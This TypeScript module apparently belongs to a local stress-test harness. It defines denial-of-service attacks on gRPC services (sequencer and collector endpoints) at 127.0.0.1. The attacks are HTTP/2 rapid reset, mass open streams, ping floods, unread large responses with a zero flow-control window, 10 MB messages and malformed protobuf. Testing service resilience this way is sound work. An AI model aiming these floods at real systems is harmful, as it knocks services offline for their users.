import { type ClientHttp2Session, connect, constants } from 'node:http2';
import { connect as connectTcp } from 'node:net';
import { type Attack, type AttackContext, lanes, rest, type Service } from '../attack.ts';

const { NGHTTP2_CANCEL } = constants;
const SESSION_MS = 5_000;

function open({ ports, from }: AttackContext, service: Service): Promise<ClientHttp2Session> {
  const authority = `http://127.0.0.1:${ports[service]}`;
  const session = connect(authority, {
    createConnection: () => connectTcp({ port: ports[service], host: '127.0.0.1', localAddress: from }),
  });
  return new Promise((resolve, reject) => {
    session.once('connect', () => resolve(session));
    session.once('error', reject);
    session.on('error', () => undefined);
  });
}

/** Sessions one after another, each used until it is ended, or for some seconds. */
const sessions =
  (
    service: Service,
    count: number,
    use: (session: ClientHttp2Session, context: AttackContext) => Promise<void>,
  ): Attack =>
  (context) =>
    lanes(count, context, async () => {
      const session = await open(context, service);
      const end = performance.now() + SESSION_MS;
      try {
        while (!context.over.aborted && !session.destroyed && !session.closed && performance.now() < end) {
          await use(session, context);
        }
      } finally {
        session.destroy();
      }
    });

const HEADERS = (path: string) => ({
  ':method': 'POST',
  ':path': path,
  'content-type': 'application/grpc',
  te: 'trailers',
});
const PENDING_NONCE = '/astria.sequencerblock.v1.SequencerService/GetPendingNonce';

/** Streams that are opened and at once taken back. */
export const rapidReset = sessions('grpc', 8, async (session, { count }) => {
  for (let index = 0; index < 50; index += 1) {
    const stream = session.request(HEADERS(PENDING_NONCE));
    stream.on('error', () => undefined);
    stream.close(NGHTTP2_CANCEL);
  }
  count(50);
  await rest(0);
});

/** Streams that are opened and stay. */
export const manyStreams = sessions('grpc', 20, async (session, { count }) => {
  for (let index = 0; index < 20; index += 1) {
    const stream = session.request(HEADERS(PENDING_NONCE));
    stream.on('error', () => undefined);
  }
  count(20);
  await rest(20);
});

export const pings = sessions('grpc', 8, async (session, { count }) => {
  for (let index = 0; index < 10; index += 1) session.ping(() => undefined);
  count(10);
  await rest(0);
});

const AHEAD = 8;

/** Large blocks, asked for by gRPC in half of the lanes and as JSON in the others; no answer is read, and each connection is closed after a while. */
export const unreadBlocks: Attack = (context) =>
  lanes(16, context, async (lane) => {
    const { ports, from, count, material } = context;
    const path = '/astria.sequencerblock.v1.SequencerService/GetSequencerBlock';
    const socket = connectTcp({ port: ports.grpc, host: '127.0.0.1', localAddress: from });
    socket.on('error', () => undefined);
    if (lane % 2 === 0) {
      const body = JSON.stringify({ height: String(material.largeBlock) });
      const length = `content-type: application/json\r\ncontent-length: ${body.length}`;
      socket.pause();
      socket.write(`POST ${path} HTTP/1.1\r\nhost: 127.0.0.1\r\n${length}\r\n\r\n${body}`.repeat(AHEAD));
    } else {
      const session = connect('http://127.0.0.1', {
        settings: { initialWindowSize: 0 },
        createConnection: () => socket,
      });
      session.on('error', () => undefined);
      // Field 1, a number below 16,384.
      const message = [0x08, (material.largeBlock & 127) | 128, material.largeBlock >> 7];
      for (let ahead = 0; ahead < AHEAD; ahead += 1) {
        const stream = session.request(HEADERS(path));
        stream.on('error', () => undefined);
        stream.end(Buffer.from([0, 0, 0, 0, message.length, ...message]));
      }
    }
    count(AHEAD);
    await rest(SESSION_MS);
    socket.destroy();
  });

/** One call with a body of its own. */
const call = (service: Service, lanesCount: number, path: string, message: () => Uint8Array): Attack => {
  const attack: Attack = (context) => {
    const bytes = message();
    const framed = Buffer.alloc(5 + bytes.length);
    framed.writeUInt32BE(bytes.length, 1);
    framed.set(bytes, 5);
    return sessions(service, lanesCount, async (session, { count }) => {
      const stream = session.request(HEADERS(path));
      count();
      await new Promise<void>((resolve) => {
        stream.on('error', () => resolve());
        stream.on('close', () => resolve());
        stream.on('data', () => undefined);
        stream.setTimeout(SESSION_MS, () => stream.destroy());
        stream.end(framed);
      });
    })(context);
  };
  return attack;
};

const SUBMIT = '/astria.composer.v1.GrpcCollectorService/SubmitRollupTransaction';

export const bigMessages = call('collector', 8, SUBMIT, () => new Uint8Array(10_000_000));
/** A field whose length prefix exceeds the message. */
export const malformedProtobuf = call('grpc', 16, PENDING_NONCE, () => new Uint8Array(2_000).fill(0xff));

/** A rollup id of 32 bytes and data that is more than a bundle holds. */
export const refusedSubmissions = call('collector', 16, SUBMIT, () => {
  const data = new Uint8Array(600_000);
  const id = [0x0a, 0x22, 0x0a, 0x20, ...new Uint8Array(32).fill(7)];
  const length = [(data.length & 127) | 128, ((data.length >> 7) & 127) | 128, data.length >> 14];
  return Buffer.concat([new Uint8Array([...id, 0x12, ...length]), data]);
});
